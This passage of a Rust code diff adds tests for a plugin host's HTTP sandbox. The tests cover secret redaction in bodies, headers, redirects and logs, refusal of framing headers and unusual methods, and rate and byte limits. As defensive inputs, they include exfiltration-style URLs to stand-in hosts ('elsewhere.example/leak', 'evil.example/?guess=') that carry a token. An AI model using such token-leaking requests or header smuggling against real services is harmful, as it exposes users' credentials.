+        )
+        .await;
+        // Finished bodies stay reserved until the batch goes back to the guest.
+        let (results, _held): (Vec<_>, Vec<_>) = outcomes
+            .into_iter()
+            .map(|o| match o {
+                Ok((resp, hold)) => (Ok(resp), Some(hold)),
+                Err(e) => (Err(e), None),
+            })
+            .unzip();
+        results
     }
 
     async fn fetch_streaming(
         &mut self,
         req: Request,
     ) -> Result<(ResponseHead, Resource<BodyStream>), HttpError> {
-        let call = Call {
-            run: &self.run,
-            step: &self.step,
-        };
+        let call = Call::new(&self.run, &self.step);
         let (head, body) = call.fetch_streaming(req).await?;
         let handle = self
             .table_mut()
@@ -663,12 +917,9 @@ impl HostBody for StepCtx {
             .table_mut()
             .get_mut(&body)
             .map_err(|e| HttpError::Invalid(format!("no such body: {e}")))?;
-        Call {
-            run: &run,
-            step: &step,
-        }
-        .read_stream(stream, max)
-        .await
+        Call::scrubbing(&run, &step, stream.scrub.clone())
+            .read_stream(stream, max)
+            .await
     }
 
     async fn drop(&mut self, body: Resource<BodyStream>) -> wasmtime::Result<()> {
@@ -680,6 +931,85 @@ impl HostBody for StepCtx {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::capabilities::log::LogSink;
+    use crate::policy::{Grant, Policy};
+    use crate::secrets::{REDACTED, SecretValue, Secrets};
+    use corral_simulators::SimServer;
+    use corral_simulators::attack::{AttackSim, encode};
+    use std::collections::{BTreeMap, BTreeSet};
+
+    const SECRET: &str = "unit/http-secret-4471";
+
+    const MANIFEST: &str = r#"{"permissions":[
+        {"effect":"ALLOW","actions":["http:*"],"resources":["{{config.baseUrl}}*"]},
+        {"effect":"ALLOW","actions":["secret:Use"],"resources":["secret:token"],
+         "condition":{"stringLike":{"http:url":"{{config.baseUrl}}api/*"}}}],
+      "limits":{"maxResponseBytes":1048576,"requestsPerSecond":1000,
+                "maxConcurrentRequests":16,"timeoutSeconds":20}}"#;
+
+    /// A run of the manifest above against `base`, with `in_flight` bytes in flight.
+    fn run_context(base: &str, in_flight: u64) -> Arc<RunContext> {
+        let config = BTreeMap::from([("baseUrl".to_string(), base.to_string())]);
+        let mut grant = Grant::new(Policy::parse(MANIFEST, "test", &config).unwrap(), None);
+        grant.limits.max_in_flight_bytes = in_flight;
+        let mut secrets = Secrets::default();
+        secrets.insert("token", SecretValue::new(SECRET));
+        Arc::new(RunContext {
+            instance_id: "unit".into(),
+            instance_name: "unit".into(),
+            http: HttpCapability::new(&grant.limits, StaticHosts::default()),
+            deadline: Instant::now() + Duration::from_secs(grant.limits.timeout_seconds),
+            grant,
+            redactor: secrets.redactor(),
+            secrets,
+            config,
+            secret_fields: BTreeSet::from(["token".to_string()]),
+            mapped_types: BTreeSet::new(),
+            graph: Default::default(),
+            log: LogSink::default(),
+            stats: RunStats::default(),
+        })
+    }
+
+    async fn sim() -> (SimServer, StepCtx) {
+        let server = SimServer::start(Arc::new(AttackSim), 0).await.unwrap();
+        let ctx = StepCtx::new(run_context(&format!("{}/", server.origin()), 8 << 20), "s");
+        (server, ctx)
+    }
+
+    /// A GET, with the token as bearer where the grant allows it.
+    fn get(url: String) -> Request {
+        let auth = match url.contains("/api/") {
+            true => Auth::Bearer("token".into()),
+            false => Auth::None,
+        };
+        Request {
+            method: "GET".into(),
+            url,
+            headers: Vec::new(),
+            auth,
+            body: None,
+            timeout_ms: None,
+        }
+    }
+
+    /// Everything the host wrote about the run: denials, limit hits and log lines.
+    fn host_records(run: &RunContext) -> String {
+        format!(
+            "{:?} {:?} {:?}",
+            run.stats.denials.lock().unwrap(),
+            run.stats.limit_hits.lock().unwrap(),
+            run.log.records()
+        )
+    }
+
+    /// `text` holds the secret in none of the forms the attack simulator echoes it in.
+    fn assert_clean(text: &str) {
+        for form in ["raw", "json-u", "json-slash", "percent", "percent-mixed"] {
+            assert!(!text.contains(&encode(form, SECRET)), "{form} in {text}");
+        }
+        assert!(!text.contains("http-secret"), "{text}");
+    }
 
     #[test]
     fn basic_auth_encoding() {
@@ -698,5 +1028,264 @@ mod tests {
             wait > Duration::from_millis(400) && wait <= Duration::from_millis(500),
             "{wait:?}"
         );
+    }
+
+    #[tokio::test]
+    async fn no_limit_value_panics() {
+        for rate in [0.0, -1.0, 1e-300, f64::NAN, f64::INFINITY, f64::MAX] {
+            let mut b = TokenBucket::new(rate);
+            for _ in 0..3 {
+                let _ = b.take();
+            }
+        }
+        for permits in [0, u64::MAX] {
+            let limits = EffectiveLimits {
+                max_concurrent_requests: permits,
+                requests_per_second: f64::NAN,
+                ..Default::default()
+            };
+            HttpCapability::new(&limits, StaticHosts::default());
+        }
+    }
+
+    #[tokio::test]
+    async fn a_token_after_the_deadline_fails_at_once() {
+        let server = SimServer::start(Arc::new(AttackSim), 0).await.unwrap();
+        let mut run = run_context(&format!("{}/", server.origin()), 8 << 20);
+        Arc::get_mut(&mut run).unwrap().http = HttpCapability::new(
+            &EffectiveLimits {
+                requests_per_second: 0.0,
+                ..Default::default()
+            },
+            StaticHosts::default(),
+        );
+        let mut ctx = StepCtx::new(run, "s");
+        let url = format!("{}/public", server.origin());
+        assert!(Host::fetch(&mut ctx, get(url.clone())).await.is_ok());
+        let started = Instant::now();
+        let err = Host::fetch(&mut ctx, get(url)).await.unwrap_err();
+        assert!(started.elapsed() < Duration::from_secs(1));
+        assert!(
+            matches!(&err, HttpError::Timeout(m) if m.contains("requestsPerSecond")),
+            "{err:?}"
+        );
+    }
+
+    #[tokio::test]
+    async fn framing_headers_are_the_hosts() {
+        let (server, mut ctx) = sim().await;
+        for name in [
+            "Content-Length",
+            "transfer-encoding",
+            "TE",
+            "Connection",
+            "Keep-Alive",
+            "UPGRADE",
+            "Host",
+            "Trailer",
+            "Expect",
+            "Proxy-Authorization",
+            "proxy-connection",
+        ] {
+            let mut req = get(format!("{}/api/items", server.origin()));
+            req.headers.push((name.into(), "33".into()));
+            let err = Host::fetch(&mut ctx, req).await.unwrap_err();
+            assert!(
+                matches!(&err, HttpError::Invalid(m)
+                    if m == &format!("the {name} header is set by the host, not the plugin")),
+                "{name}: {err:?}"
+            );
+        }
+        assert_eq!(server.requests(), Vec::new());
+    }
+
+    #[tokio::test]
+    async fn only_the_documented_methods_are_sent() {
+        let (server, mut ctx) = sim().await;
+        for method in ["CONNECT", "TRACE", "PURGE", "get", "GET "] {
+            let mut req = get(format!("{}/api/items", server.origin()));
+            req.method = method.into();
+            let err = Host::fetch(&mut ctx, req).await.unwrap_err();
+            assert!(
+                matches!(&err, HttpError::Invalid(m) if m.contains("is not allowed: use one of GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS")),
+                "{method}: {err:?}"
+            );
+        }
+        assert_eq!(server.requests(), Vec::new());
+        for method in METHODS {
+            let mut req = get(format!("{}/api/items", server.origin()));
+            req.method = method.to_string();
+            let resp = Host::fetch(&mut ctx, req).await.unwrap();
+            assert_eq!(resp.status, 200, "{method}");
+        }
+    }
+
+    #[tokio::test]
+    async fn a_redirect_leaking_the_token_elsewhere_is_refused_scrubbed() {
+        let (server, mut ctx) = sim().await;
+        for form in ["raw", "percent", "percent-mixed", "percent-slash"] {
+            let url = format!(
+                "{}/api/redirect-echo?form={form}&to=http://elsewhere.example/leak",
+                server.origin()
+            );
+            let err = Host::fetch(&mut ctx, get(url)).await.unwrap_err();
+            let HttpError::Denied(text) = &err else {
+                panic!("{form}: {err:?}")
+            };
+            assert!(
+                text.starts_with(&format!(
+                    "http:GET http://elsewhere.example/leak?v={REDACTED} denied: "
+                )),
+                "{form}: {text}"
+            );
+            assert_clean(text);
+        }
+        let records = host_records(&ctx.run);
+        assert_eq!(
+            records
+                .matches("elsewhere.example/leak?v=[REDACTED]")
+                .count(),
+            8
+        );
+        assert_clean(&records);
+    }
+
+    #[tokio::test]
+    async fn a_same_host_redirect_echoing_the_token_hands_back_a_scrubbed_url() {
+        let (server, mut ctx) = sim().await;
+        for form in ["raw", "percent", "percent-mixed", "percent-slash"] {
+            let url = format!(
+                "{}/api/redirect-echo?form={form}&to=/api/landing",
+                server.origin()
+            );
+            let resp = Host::fetch(&mut ctx, get(url.clone())).await.unwrap();
+            let landing = format!("{}/api/landing?v={REDACTED}", server.origin());
+            assert_eq!((resp.status, resp.url.as_str()), (200, landing.as_str()));
+            let (head, _body) = Host::fetch_streaming(&mut ctx, get(url)).await.unwrap();
+            assert_eq!(head.url, landing, "{form}");
+        }
+    }
+
+    #[tokio::test]
+    async fn encoded_echoes_are_scrubbed_from_bodies_and_headers() {
+        let (server, mut ctx) = sim().await;
+        for form in ["raw", "json-u", "json-slash", "percent", "percent-mixed"] {
+            let url = format!("{}/api/echo-encoded?form={form}", server.origin());
+            let resp = Host::fetch(&mut ctx, get(url)).await.unwrap();
+            assert_eq!(resp.body, br#"{"v":"[REDACTED]"}"#, "{form}");
+            let echo = resp.headers.iter().find(|(k, _)| k == "x-echo").unwrap();
+            assert_eq!(echo.1, REDACTED, "{form}");
+        }
+    }
+
+    #[tokio::test]
+    async fn the_guests_own_text_comes_back_verbatim_and_is_scrubbed_in_records() {
+        let (server, mut ctx) = sim().await;
+        // A guest that guessed the secret learns nothing from the answer...
+        let guess = format!("https://evil.example/?guess={SECRET}");
+        let err = Host::fetch(&mut ctx, get(guess.clone())).await.unwrap_err();
+        assert!(
+            matches!(&err, HttpError::Denied(m) if m.starts_with(&format!("http:GET {guess} denied"))),
+            "{err:?}"
+        );
+        let mut req = get(format!("{}/api/items", server.origin()));
+        req.headers.push((SECRET.into(), "x".into()));
+        let err = Host::fetch(&mut ctx, req).await.unwrap_err();
+        assert!(
+            matches!(&err, HttpError::Invalid(m) if m.contains(SECRET)),
+            "{err:?}"
+        );
+        // ...and what the host wrote holds no secret.
+        let records = host_records(&ctx.run);
+        assert!(
+            records.contains("evil.example/?guess=[REDACTED]"),
+            "{records}"
+        );
+        assert_clean(&records);
+    }
+
+    #[tokio::test]
+    async fn a_batch_holds_at_most_the_bytes_in_flight() {
+        let server = SimServer::start(Arc::new(AttackSim), 0).await.unwrap();
+        let limit = 4 << 20;
+        let run = run_context(&format!("{}/", server.origin()), limit);
+        let mut ctx = StepCtx::new(run.clone(), "s");
+        let size = 500_000;
+        let mut all_refused = 0;
+        for (query, exact) in [("", true), ("&stream=1", false)] {
+            let reqs = (0..40)
+                .map(|i| get(format!("{}/bytes?n={size}&i={i}{query}", server.origin())))
+                .collect();
+            let results = Host::fetch_batch(&mut ctx, reqs).await;
+            let ok = results.iter().filter(|r| r.is_ok()).count() as u64;
+            let refused = results
+                .iter()
+                .filter(|r| {
+                    matches!(r, Err(HttpError::RateLimited(m))
+                        if m.starts_with("maxInFlightBytes limit of 4194304 reached"))
+                })
+                .count() as u64;
+            assert_eq!(ok + refused, 40, "{query}: {results:?}");
+            assert!(
+                ok * size <= limit && ok >= 1 && refused >= 1,
+                "{query}: {ok}"
+            );
+            if exact {
+                // Announced sizes are reserved whole: exactly as many as fit.
+                assert_eq!(ok, limit / size);
+            }
+            assert_eq!(run.http.in_flight.used.load(Ordering::SeqCst), 0);
+            all_refused += refused;
+        }
+        // Each refusal is counted as a limit hit.
+        let hits = run.stats.limit_hits.lock().unwrap();
+        assert_eq!(hits.len() as u64, all_refused);
+        assert!(hits.iter().all(|e| e.rule.starts_with("maxInFlightBytes")));
+    }
+
+    #[tokio::test]
+    async fn a_streamed_body_is_counted_in_flight_until_read() {
+        let (server, mut ctx) = sim().await;
+        let url = format!("{}/bytes?n=294912&stream=1", server.origin());
+        let (_, body) = Host::fetch_streaming(&mut ctx, get(url)).await.unwrap();
+        let first = HostBody::read(&mut ctx, Resource::new_borrow(body.rep()), 10)
+            .await
+            .unwrap();
+        assert_eq!(first.len(), 10);
+        assert!(ctx.run.http.in_flight.used.load(Ordering::SeqCst) > 0);
+        let mut total = first.len();
+        loop {
+            let piece = HostBody::read(&mut ctx, Resource::new_borrow(body.rep()), 1 << 20)
+                .await
+                .unwrap();
+            if piece.is_empty() {
+                break;
+            }
+            total += piece.len();
+        }
+        assert_eq!(total, 294_912);
+        assert_eq!(ctx.run.http.in_flight.used.load(Ordering::SeqCst), 0);
+    }
+
+    #[test]
+    fn a_secret_split_across_stream_chunks_is_scrubbed() {
+        let mut secrets = Secrets::default();
+        secrets.insert("token", SecretValue::new(SECRET));
+        let scrub = secrets.redactor();
+        for form in ["raw", "json-u", "percent-mixed"] {
+            let body = format!(r#"{{"a":"x","v":"{}","b":"y"}}"#, encode(form, SECRET));
+            for split in 1..body.len() {
+                let (a, b) = body.as_bytes().split_at(split);
+                let mut held = Vec::new();
+                let mut out = scrub_stream(&scrub, &mut held, Some(a));
+                out.extend(scrub_stream(&scrub, &mut held, Some(b)));
+                out.extend(scrub_stream(&scrub, &mut held, None));
+                assert_eq!(
+                    String::from_utf8(out).unwrap(),
+                    r#"{"a":"x","v":"[REDACTED]","b":"y"}"#,
+                    "{form} split at {split}"
+                );
+            }
+        }
     }
 }
